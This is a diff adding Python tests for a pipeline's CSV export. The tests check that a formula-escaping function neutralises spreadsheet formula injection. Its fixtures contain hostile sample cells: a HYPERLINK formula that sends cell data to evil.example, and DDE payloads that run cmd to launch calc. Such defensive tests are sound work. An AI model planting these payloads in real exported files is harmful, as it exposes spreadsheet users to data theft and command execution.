@@ -6,7 +6,7 @@ from typer.testing import CliRunner
 
 from pipeline.cli import app
 from pipeline.export import TABLES, TableError, read_records, table_for_path, table_rows, write_table
-from pipeline.export.tables import ARTICLE_COLUMNS
+from pipeline.export.tables import ARTICLE_COLUMNS, escape_formula
 from tests.export.test_reading import HAND_TEXT, corpus_records_path, hand_record
 
 runner = CliRunner()
@@ -105,3 +105,72 @@ def test_export_tables_item_columns_never_reuse_article_columns(table):
     assert len(set(columns)) == len(columns)
     row = table_rows([hand_record(HAND_TEXT)], table)[0]
     assert tuple(row) == columns and row["title"] == "Hand-made article"
+
+
+#: Text cells a spreadsheet would run as a formula (OWASP, "CSV Injection"), and one it would not.
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+FORMULA_TEXT = "-2+3+cmd|' /C calc'!A0 said Volt Typhoon, Dana Whitfield said: \"they are patient\".\n\nThe Chinese embassy denied it."
+
+
+def formula_record():
+    record = hand_record(FORMULA_TEXT, title=FORMULA_TITLE)
+    return record.model_copy(update={"site": "@SUM(1+1)*cmd|' /C calc'!A0"})
+
+
+def read_csv(path):
+    with path.open(encoding="utf-8", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+@pytest.mark.parametrize(
+    ("cell", "escaped"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Volt Typhoon", "Volt Typhoon"),
+        (" =1", " =1"),
+        ("", ""),
+        (-1, -1),
+        (0.5, 0.5),
+        (None, None),
+    ],
+)
+def test_export_tables_escape_formula(cell, escaped):
+    assert escape_formula(cell) == escaped
+
+
+def test_export_tables_csv_neutralises_formulas_by_default(tmp_path):
+    record = formula_record()
+    write_table([record], tmp_path / "claims.csv", table="claims", fmt="csv")
+    row = read_csv(tmp_path / "claims.csv")[0]
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["site"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["evidence"].startswith("'-2+3+cmd|")
+    assert row["start"] == "0" and row["confidence"] == "0.5"  # numbers are never changed
+    # JSONL is not for spreadsheets: written as is
+    write_table([record], tmp_path / "claims.jsonl", table="claims", fmt="jsonl")
+    first = json.loads((tmp_path / "claims.jsonl").read_text(encoding="utf-8").splitlines()[0])
+    assert first["title"] == FORMULA_TITLE and first["evidence"].startswith("-2+3")
+
+
+def test_export_tables_escaping_can_be_turned_off(tmp_path):
+    write_table([formula_record()], tmp_path / "quotes.csv", table="quotes", fmt="csv", escape_formulas=False)
+    row = read_csv(tmp_path / "quotes.csv")[0]
+    assert row["title"] == FORMULA_TITLE and row["site"].startswith("@SUM")
+
+
+def test_export_cli_escapes_formulas_unless_told_not_to(tmp_path):
+    records = tmp_path / "r.jsonl"
+    records.write_text(formula_record().model_dump_json() + "\n", encoding="utf-8")
+    escaped = runner.invoke(app, ["export", str(records), "--to", str(tmp_path / "quotes.csv")])
+    assert escaped.exit_code == 0, escaped.output
+    assert read_csv(tmp_path / "quotes.csv")[0]["title"] == "'" + FORMULA_TITLE
+    raw = runner.invoke(
+        app, ["export", str(records), "--to", str(tmp_path / "raw.csv"), "--table", "quotes", "--no-escape-formulas"]
+    )
+    assert raw.exit_code == 0, raw.output
+    assert read_csv(tmp_path / "raw.csv")[0]["title"] == FORMULA_TITLE
